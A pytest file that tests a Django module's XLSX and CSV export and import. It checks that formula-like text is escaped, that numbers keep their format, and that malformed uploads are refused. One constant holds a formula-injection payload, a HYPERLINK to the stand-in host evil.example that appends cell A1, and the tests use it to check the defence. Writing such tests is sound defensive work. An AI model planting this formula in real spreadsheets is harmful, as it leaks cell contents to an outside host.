import datetime
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from common.spreadsheets import (
    MONEY_FORMAT,
    Column,
    csv_response,
    read_rows,
    write_csv,
    write_xlsx,
)

COLUMNS = (
    Column("名称", lambda r: r["name"]),
    Column("金额（元）", lambda r: r["amount"], MONEY_FORMAT),
    Column("日期", lambda r: r["on"]),
)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
ROWS = [
    {"name": HOSTILE, "amount": Decimal("1200000.50"), "on": datetime.date(2026, 3, 1)},
    {"name": "+86 990 1234567", "amount": None, "on": None},
    {"name": "普通单位", "amount": Decimal("-5"), "on": datetime.date(2026, 3, 2)},
]


def test_xlsx_text_never_becomes_a_formula_and_numbers_stay_numbers():
    out = io.BytesIO()
    write_xlsx(out, title="导出", columns=COLUMNS, rows=ROWS)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert [c.value for c in sheet[1]] == ["名称", "金额（元）", "日期"]
    formula = sheet["A2"]
    assert formula.value == HOSTILE and formula.data_type == "s"
    assert sheet["B2"].value == 1200000.5 and sheet["B2"].number_format == MONEY_FORMAT
    assert sheet["C2"].value.date() == datetime.date(2026, 3, 1)
    assert sheet["B3"].value is None and sheet.freeze_panes == "A2"


def test_csv_text_that_starts_like_a_formula_is_quoted_but_a_negative_number_is_not():
    out = io.StringIO()
    write_csv(out, columns=COLUMNS, rows=ROWS)
    lines = out.getvalue().lstrip("\ufeff").splitlines()
    assert lines[0] == "名称,金额（元）,日期"
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[2].startswith("'+86 990")
    assert lines[3] == "普通单位,-5,2026-03-02"


def test_a_written_sheet_reads_back(tmp_path):
    response = csv_response("x.csv", columns=COLUMNS[:1], rows=[{"name": "甲"}, {"name": "乙"}])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = read_rows(response.content, "x.csv", ("名称",))
    assert rows == [(2, {"名称": "甲"}), (3, {"名称": "乙"})]


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"a,b\n", "x.txt", "只支持 .xlsx 或 .csv"),
        (b"not a zip", "x.xlsx", "无法读取该 .xlsx 文件"),
        ("名称\n甲\n".encode("gb18030"), "x.csv", "不是 UTF-8 编码"),
        (b"other\n1\n", "x.csv", "表头缺少列：名称"),
    ],
)
def test_bad_files_are_refused_with_a_reason(data, name, words):
    with pytest.raises(ValidationError) as caught:
        read_rows(data, name, ("名称",))
    assert words in " ".join(caught.value.messages)
